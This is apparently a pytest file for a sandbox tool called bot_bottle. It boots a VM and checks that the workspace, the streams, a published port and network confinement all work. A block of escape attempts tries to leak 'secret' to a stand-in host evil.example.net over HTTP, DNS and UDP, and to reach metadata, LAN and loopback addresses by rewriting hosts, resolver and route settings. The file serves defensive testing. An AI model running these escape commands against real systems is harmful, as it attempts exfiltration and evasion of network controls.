"""smolvm itself, on an emulated host: one machine with all that a bottle has, and what ends a start.

The other tests of this tier boot without smolvm. This shows the same of the real one, in one boot: the
artifact is unpacked, streams and the status come through, the workspace is shared, one host is reached
and nothing else, and a published port leads in.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
from pathlib import Path

import pytest
from tests.support import named_world as world
from tests.support.bottle import Bottle, Ended, end, wait_until
from tests.support.engines import CHECKOUT, Docker
from tests.support.named_world import ALLOWED, EMULATOR, LAN, METADATA, REFUSED, RESOLVER
from tests.support.repos import make_repo
from tests.support.world import furnish
from tests.vm.conftest import COMMAND

from bot_bottle.host.progress import Progress
from bot_bottle.network.probes import BUSYBOX
from bot_bottle.vm.emulated.host import prepare_emulation

HOST = "api.example.org"
BB = " ".join(BUSYBOX)
# a question over TCP: its length, its head, "secret.tcp" and its type and class
QUESTION = r"\0\034bo\1\0\0\1\0\0\0\0\0\0\6secret\3tcp\0\0\1\0\1"
# the toolkit's programs under their names: the shell does not find them, since the toolkit has no links
TOOLS = f"""
for each in nc ping ip wget head wc; do eval "$each() {{ {BB} $each \\"\\$@\\"; }}"; done
get() {{ printf 'GET / HTTP/1.0\\r\\nHost: evil.example.net\\r\\n\\r\\n' | nc -w 3 "$@"; }}
ask() {{ {BB} timeout 5 {BB} nslookup "$@"; }}
fetched() {{ [ "$(wget -q -T 20 -O - "http://$1/")" != ok ] || echo "$1 ok"; }}
"""
# Tried in this order, by root. What comes of it is not looked at here: the world's log says what got out.
ESCAPES = f"""
get evil.example.net 80
get {REFUSED} 80
get {REFUSED} 443
get sub.api.example.org 80
get wild.example.org 80
get ::ffff:{REFUSED} 80
get 64:ff9b::{REFUSED} 80
get {METADATA} 80
get {LAN} 80
get meta.wild.example.org 80
get 127.0.0.1 80
get loop.wild.example.org 80
get 0.0.0.0 80
get 2130706433 80
get 0x7f.1 80
get {EMULATOR} 80
get 198.18.1.2 80
get 10.0.2.2 80
get emulator.wild.example.org 80
get 100.96.0.1 80
get 100.96.0.1 443
get lan.wild.example.org 80
get -s 127.0.0.1 {REFUSED} 80
ask secret.evil.example.net
ask secret.evil.example.net {RESOLVER}
ask -type=txt secret.evil.example.net {RESOLVER}
ask secret.evil.example.net {REFUSED}
printf '{QUESTION}' | nc -w 3 {RESOLVER} 53
for at in "{REFUSED} 443" "{RESOLVER} 443" "255.255.255.255 443" "224.0.0.251 5353"; do
  echo secret | {BB} timeout 2 {BB} nc -u $at
done
ping -c 1 -W 2 -w 3 {REFUSED}
echo "{REFUSED} api.example.org" >> /etc/hosts; get api.example.org 80
echo "nameserver {REFUSED}" > /etc/resolv.conf; get evil.example.net 80; ask secret.evil.example.net
ip addr add 10.77.0.9/24 dev eth0; get -s 10.77.0.9 {LAN} 80
ip route add {REFUSED}/32 dev eth0; get {REFUSED} 80
ip route add {LAN}/32 dev lo; get {LAN} 80
"""
DATA = bytes(range(256)) * 8192  # 2 MB
SCRIPT = f"""
sha256sum
id -u; pwd; uname -r
nc -ll -p 3000 -e cat &
wget -q -T 60 -O - http://{HOST}/call/8080
{{ {ESCAPES} }} >/dev/null 2>&1; kill $!
cat README; echo inside >> README; ln -s README link; echo x 2>/dev/null > .git/config
echo of-error >&2
exit 7
"""


@pytest.mark.timeout(900)
def test_smolvm_runs_a_bottle_with_a_workspace_a_host_and_a_port(
    docker: Docker, image: str, shared_cache: Path, tmp_path: Path
) -> None:
    docker.docker("save", "--output", str(tmp_path / "image.tar"), image)
    (tmp_path / "served").mkdir()
    furnish(tmp_path / "served")
    prepare_emulation(Progress())  # the bottle has no way to fetch it
    repo = make_repo(tmp_path / "repo")
    repo.commit({"README": "readme\n"})
    bottle = Bottle(shared_cache, {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state"), "PYTHONPATH": _path()})
    log = tmp_path / "world"
    options = [*("--accel", "nested", "-m", "512m", "-u", "0", "--name", "whole", "-p", "8080:3000")]
    options += ["--allow", HOST, "--workspace", "mount", "--archive", str(tmp_path / "image.tar")]
    shell = [*BUSYBOX, "sh", "-c", TOOLS + SCRIPT]
    done = subprocess.run(
        [*world.prefix(log, tmp_path / "served"), *COMMAND, "run", "-q", *options, "--", *shell],
        input=DATA,
        env=bottle.env(),
        cwd=repo.top,
        capture_output=True,
        check=False,
        timeout=800,
    )
    ended = Ended(done.returncode, done.stdout.decode(), done.stderr.decode())
    assert ended.code == 7, ended
    digest, user, folder, kernel, called, readme = ended.out.splitlines()
    assert digest.split()[0] == hashlib.sha256(DATA).hexdigest()
    assert (user, folder, called, readme) == ("0", "/workspace", "hello", "readme")
    assert kernel != os.uname().release
    assert ended.err == "of-error\n"
    assert (repo.top / "README").read_text() == "readme\ninside\n"
    assert (repo.top / "link").readlink() == Path("README")
    assert "x\n" not in (repo.top / ".git/config").read_text().splitlines(keepends=True)
    seen = world.seen(log)
    assert {(address, port) for kind, address, port, *_ in _of(seen, 4) if kind == "tcp"} == {(ALLOWED, 80)}
    assert [each for each in seen if each[0] == "udp"] == []
    assert {each[1] for each in seen if each[0] == "name"} == {HOST}
    [receipt] = (tmp_path / "state" / "receipts").glob("*.json")
    record = json.loads(receipt.read_text())
    found = {name: each["outcome"] for name, each in record["proof"].items()}
    assert (found["allowed-host"], found["ipv4"], found["resolver"]) == ("open", "refused", "refused")
    assert (record["place"], record["exit_status"]) == ("nested", 7)
    assert bottle.leftovers == []


def _of(seen: list[list[object]], length: int) -> list[list[object]]:
    return [each for each in seen if len(each) == length]


def _path() -> str:
    """Return the import path of a process that has another current folder."""
    return os.pathsep.join([str(CHECKOUT), *filter(None, [os.environ.get("PYTHONPATH")])])


@pytest.mark.timeout(300)
@pytest.mark.usefixtures("docker")
@pytest.mark.parametrize("stage", ["host", pytest.param("boot", marks=pytest.mark.slow)])
def test_a_signal_while_the_emulated_host_starts_leaves_nothing(
    image: str, shared_cache: Path, tmp_path: Path, stage: str
) -> None:
    bottle = Bottle(shared_cache, {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state")})
    child = bottle.start("run", "--accel", "nested", "--image", image, "--", "true")
    assert child.stderr
    if stage == "host":
        wait_until(lambda: any((shared_cache / "runs").glob("run-*/emulated*/control")), pause=0.01)
    else:
        assert any("emulated host is up" in line for line in child.stderr)
    child.send_signal(signal.SIGINT)
    ended = end(child)
    assert (ended.code, ended.out) == (130, ""), ended
    assert "interrupted" in ended.err
    assert bottle.leftovers == []


@pytest.mark.slow
@pytest.mark.timeout(900)
@pytest.mark.usefixtures("docker")
def test_a_command_that_takes_too_long_is_ended_on_an_emulated_host_too(
    image: str, shared_cache: Path, tmp_path: Path
) -> None:
    bottle = Bottle(shared_cache, {"BOT_BOTTLE_STATE_DIR": str(tmp_path / "state")})
    options = ("--accel", "nested", "-m", "512m", "--timeout", "5s", "--image", image)
    done = bottle("run", "-q", *options, "--", "sh", "-c", "exec sleep 600", timeout=800)
    done.failed(124, "the command ran for longer than 5s, and was ended")
    assert bottle.leftovers == []
